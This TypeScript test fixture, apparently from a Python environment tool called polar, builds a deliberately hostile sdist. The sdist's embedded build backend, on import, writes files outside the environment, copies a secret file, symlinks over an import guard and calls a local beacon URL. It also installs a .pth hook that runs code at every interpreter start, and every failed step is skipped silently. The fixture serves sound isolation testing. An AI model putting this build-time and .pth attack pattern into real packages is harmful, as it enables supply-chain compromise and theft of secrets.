/**
 * A hostile source distribution, for the tests of what an environment build may do (issue 43): `evil`
 * 0.1, an sdist whose PEP 517 build backend sits in the sdist itself (`backend-path = ["."]`, no build
 * requirements, so pip builds it offline with nothing but the sdist). Importing the backend is the
 * attack, as a setup.py would do it: it writes `marker` (a file outside the environment), copies
 * `secret` into `leak`, and puts a symlink to `target` where polar writes its import guard
 * (`<site-packages>/_polar_guard.py`), and fetches `beacon` (a URL) when given. The wheel it builds installs `evil_hook.pth`, which writes
 * `pthMarker` at every start of the environment's Python. Each attempt that fails is skipped silently,
 * so the build succeeds where the attack does not. Served as a file, a `file://` URL, or over HTTP on
 * 127.0.0.1.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';

export interface Attack {
  marker: string;
  secret: string;
  leak: string;
  target: string;
  pthMarker: string;
  /** a URL the backend fetches (a beacon: did the build reach the network?) */
  beacon?: string;
}

const BACKEND = `import base64, hashlib, json, os, sysconfig, zipfile

_here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(_here, "attack.json")) as f:
    _attack = json.load(f)


def _try(fn):
    try:
        fn()
    except Exception:
        pass


def _marker():
    with open(_attack["marker"], "w") as f:
        f.write("evil ran as uid %d\\n" % os.getuid())


def _leak():
    with open(_attack["secret"]) as f, open(_attack["leak"], "w") as out:
        out.write(f.read())


def _guard_link():
    os.symlink(_attack["target"], os.path.join(sysconfig.get_paths()["purelib"], "_polar_guard.py"))


def _beacon():
    if _attack.get("beacon"):
        import urllib.request
        urllib.request.urlopen(_attack["beacon"], timeout=5).read()


_try(_marker)
_try(_leak)
_try(_guard_link)
_try(_beacon)


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "evil-0.1-py3-none-any.whl"
    pth = "import os; open(%r, 'w').write('pth ran')\\n" % _attack["pthMarker"]
    files = {
        "evil/__init__.py": "",
        "evil_hook.pth": "import sys; exec(%r)\\n" % ("try:\\n    " + pth.strip() + "\\nexcept Exception:\\n    pass\\n"),
        "evil-0.1.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 0.1\\n",
        "evil-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: evil\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for path, text in files.items():
            data = text.encode()
            z.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append("%s,sha256=%s,%d" % (path, digest, len(data)))
        record.append("evil-0.1.dist-info/RECORD,,")
        z.writestr("evil-0.1.dist-info/RECORD", "\\n".join(record) + "\\n")
    return name
`;

const PYPROJECT = `[build-system]
requires = []
build-backend = "evil_backend"
backend-path = ["."]

[project]
name = "evil"
version = "0.1"
`;

/** Writes `dir/evil-0.1.tar.gz` (built with tar) and returns its path. */
export function makeEvilSdist(dir: string, attack: Attack): string {
  const src = join(dir, 'evil-0.1');
  mkdirSync(src, { recursive: true });
  writeFileSync(join(src, 'pyproject.toml'), PYPROJECT);
  writeFileSync(join(src, 'evil_backend.py'), BACKEND);
  writeFileSync(join(src, 'attack.json'), JSON.stringify(attack));
  writeFileSync(join(src, 'PKG-INFO'), 'Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n');
  const tarball = join(dir, 'evil-0.1.tar.gz');
  const r = spawnSync('tar', ['-czf', tarball, '-C', dir, 'evil-0.1'], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`tar failed: ${r.stderr}`);
  return tarball;
}

export const fileUrl = (path: string) => pathToFileURL(path).href;

/** Serves `file` at http://127.0.0.1:PORT/<its name> until closed. */
export async function serveFile(file: string, name: string): Promise<{ url: string; server: Server }> {
  const body = readFileSync(file);
  const server = createServer((req, res) => {
    if (req.url !== `/${name}`) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(body);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/${name}`, server };
}

/**
 * The attack laid out under `dir`: `dir/links` (a find-links folder) holding the evil sdist, whose
 * marker goes inside that folder (bound read-only in a build), the secret, the leak, the link's target
 * and the .pth's marker beside it, and a beacon on 127.0.0.1 that counts its hits.
 */
export async function hostileLinks(
  dir: string,
): Promise<{ links: string; attack: Attack; hits: () => number; close: () => void }> {
  const links = join(dir, 'links');
  mkdirSync(links, { recursive: true });
  let hits = 0;
  const beacon = createServer((_req, res) => {
    hits++;
    res.end('hit');
  });
  await new Promise<void>((r) => beacon.listen(0, '127.0.0.1', r));
  const attack: Attack = {
    marker: join(links, 'marker'),
    secret: join(dir, 'secret'),
    leak: join(dir, 'leak'),
    target: join(dir, 'target'),
    pthMarker: join(dir, 'pth-marker'),
    beacon: `http://127.0.0.1:${(beacon.address() as AddressInfo).port}/beacon`,
  };
  writeFileSync(attack.secret, 'polar-secret-line-7f3a\n');
  writeFileSync(attack.target, 'original\n');
  makeEvilSdist(links, attack);
  return { links, attack, hits: () => hits, close: () => beacon.close() };
}
